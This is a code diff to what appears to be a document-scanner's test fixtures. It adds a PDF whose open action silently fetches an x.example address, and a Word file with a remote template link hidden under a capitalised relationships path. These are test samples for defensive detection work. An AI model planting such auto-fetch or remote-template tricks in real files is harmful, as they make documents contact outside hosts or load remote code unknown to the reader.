@@ -67,6 +67,17 @@ def pdf_with_launch():
     return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)
 
 
+def pdf_with_second_action():
+    """Opens at a page, as many do, and then fetches an address without being asked."""
+
+    def change(document):
+        then = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://x.example/opened")
+        place = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])
+        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=place, Next=then)
+
+    return pdf(change)
+
+
 def pdf_with_file():
     return pdf(lambda document: document.attachments.__setitem__("a.txt", b"inside"))
 
@@ -120,6 +131,12 @@ def docx(extra=None, main=MAIN, relationships="", doctype=""):
 
 def remote_template():
     return docx(relationships=outside("attachedTemplate", "http://x.example/t.dotm"))
+
+
+def remote_template_in_capitals():
+    content = outside("attachedTemplate", "http://x.example/t.dotm")
+    part = f'<Relationships xmlns="{PACKAGE}/relationships">{content}</Relationships>'
+    return docx({"word/_rels/settings.xml.RELS": part})
 
 
 def with_link():
